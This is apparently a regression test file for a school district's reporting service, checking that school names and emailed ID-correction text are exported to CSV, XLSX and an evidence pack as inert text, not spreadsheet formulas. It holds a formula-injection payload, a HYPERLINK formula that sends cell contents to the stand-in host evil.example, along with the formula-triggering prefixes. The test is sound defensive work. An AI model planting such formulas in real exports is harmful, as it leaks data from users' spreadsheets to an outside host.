"""Finding 7 (issue 15): text that a spreadsheet would evaluate reached the district's reports and the evidence
pack as a live formula. A school's staff names the school `=HYPERLINK(...)` through the API (the directory
can hold a name that begins with a tab or CR, which the profile route trims), and email-supplied text (an ID
correction's student name and reason) reaches the evidence pack: every such cell must open as inert text.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime, timedelta, timezone
from urllib.parse import quote

from openpyxl import load_workbook

from db.directory import upsert_school
from db.engine import session_scope
from db.models import IdCorrection, InboundMessage
from tests.stack import AREA, SCHOOL, add_round, running_stack, unique_round

PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'
THROUGH_API = ["=", "+", "-", "@"]  # the profile route keeps these; it trims surrounding whitespace
THROUGH_DIRECTORY = ["\t", "\r"]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_inert_csv(cell: str, text: str) -> None:
    assert cell == "'" + text, repr(cell)  # the apostrophe makes Excel and LibreOffice read it as text


async def report_cells(stack, rid: str) -> tuple[str, object]:
    """SCHOOL's name as the CSV report and the XLSX report hold it (its openpyxl cell)."""
    url = f"/rounds/{rid}/areas/{quote(AREA)}/report"
    r = await stack.http.get(url, headers=stack.auth("district"))
    assert r.status_code == 200, r.text
    by_code = {row[0]: row for row in csv_rows(r.content)[1:]}
    r = await stack.http.get(f"{url}?format=xlsx", headers=stack.auth("district"))
    assert r.status_code == 200, r.text
    sheet = load_workbook(io.BytesIO(r.content)).active  # not read-only: cells keep their data type
    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == SCHOOL)
    return by_code[SCHOOL][1], row[1]


async def test_a_school_name_that_looks_like_a_formula_is_text_in_both_reports(time_env, engine, settings):
    async with running_stack(time_env, engine, settings) as stack:
        now = await stack.now()
        rid = unique_round()
        add_round(engine, rid, now - timedelta(minutes=1), now + timedelta(days=1), now + timedelta(days=2))
        await stack.start_round(rid)
        for start in THROUGH_API + THROUGH_DIRECTORY:
            name = start + PAYLOAD
            if start in THROUGH_API:
                r = await stack.http.put(f"/rounds/{rid}/schools/{SCHOOL}/profile", headers=stack.auth("staff"),
                                         json={"name": name})
                assert r.status_code == 200, r.text
            else:
                with session_scope(engine) as s:
                    upsert_school(s, SCHOOL, name, AREA, ["dmc@tuayang.ac.th"])
            csv_cell, xlsx_cell = await report_cells(stack, rid)
            assert xlsx_cell.data_type == "s", (start, xlsx_cell.data_type)  # a string cell, not a formula ("f")
            # XML turns a lone CR into LF on reading; the text is otherwise kept exactly, with no apostrophe
            assert xlsx_cell.value == name.replace("\r", "\n"), repr(xlsx_cell.value)
            assert_inert_csv(csv_cell, name)


async def test_email_supplied_text_is_inert_in_the_evidence_pack(time_env, engine, settings):
    async with running_stack(time_env, engine, settings) as stack:
        now = await stack.now()
        rid = unique_round()
        add_round(engine, rid, now - timedelta(minutes=1), now + timedelta(days=1), now + timedelta(days=2))
        await stack.start_round(rid)
        starts = THROUGH_API + THROUGH_DIRECTORY
        with session_scope(engine) as s:  # as the intake stores them: the email's own words
            s.add(InboundMessage(sha256="c" * 64, via="smtp", received_at=datetime.now(timezone.utc), size=1, raw=b"x"))
            s.flush()
            for i, start in enumerate(starts):
                s.add(IdCorrection(id=f"IDC-FORMULA{i}", message_sha="c" * 64, block=i + 1, round_id=rid,
                                   school_code=SCHOOL, area=AREA, old_id="G256644000017", new_id="1449900000042",
                                   student_name=start + "ด.ช. " + PAYLOAD, reason=start + PAYLOAD, status="rejected",
                                   decided_at=datetime.now(timezone.utc)))
        r = await stack.http.get(f"/rounds/{rid}/schools/{SCHOOL}/evidence-pack", headers=stack.auth("district"))
        assert r.status_code == 200, r.text
        pack = zipfile.ZipFile(io.BytesIO(r.content))
        rows = csv_rows(pack.read(f"evidence-{rid}-{SCHOOL}/id-corrections.csv"))
        header, by_id = rows[0], {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
        assert "ชื่อนักเรียน" in header and "เหตุผลของคำขอ" in header
        for i, start in enumerate(starts):
            row = by_id[f"IDC-FORMULA{i}"]
            assert_inert_csv(row["ชื่อนักเรียน"], start + "ด.ช. " + PAYLOAD)
            assert_inert_csv(row["เหตุผลของคำขอ"], start + PAYLOAD)
            assert row["เลขประจำตัวประชาชนใหม่"] == "1449900000042"  # ordinary cells are unchanged
